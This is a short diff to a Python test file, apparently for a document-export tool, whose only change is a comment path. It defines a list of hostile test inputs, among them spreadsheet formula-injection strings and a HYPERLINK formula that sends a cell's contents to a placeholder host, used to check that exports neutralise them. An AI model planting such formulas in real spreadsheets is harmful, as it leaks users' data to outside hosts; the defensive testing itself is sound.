@@ -22,7 +22,7 @@ from tests.helpers import scope
 LARGEST = "syt-dong-nai-2023"
 EXPORTS = ARTIFACTS / "exports"
 
-# ../shared/RELIABILITY.md D1/D2: text that spreadsheet programs would run as formulas, and a control
+# docs/reliability-catalogue.md D1/D2: text that spreadsheet programs would run as formulas, and a control
 # character that breaks python-pptx's chart XML.
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
            "\n=1+1", "a;=1+1", 'a,"=1+1', "Phòng\x0bTổ chức"]
